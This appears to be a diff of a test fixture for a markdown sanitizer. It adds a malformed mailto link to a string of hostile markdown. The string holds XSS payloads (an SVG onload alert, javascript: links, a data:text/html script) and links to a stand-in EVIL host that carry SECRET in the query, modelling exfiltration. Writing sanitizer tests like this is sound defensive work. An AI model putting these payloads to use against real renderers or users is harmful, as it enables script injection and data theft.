@@ -28,6 +28,7 @@ HOSTILE_MARKDOWN = f"""Here you are.
 ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
 [click me](javascript:window.pwned=4)
 [and me](JaVaScRiPt:window.pwned=5)
+[nowhere](mailto:%zz)
 [data](data:text/html,<script>window.pwned=6</script>)
 [out]({EVIL}/leave?d=SECRET "title")
 <{EVIL}/auto?d=SECRET>
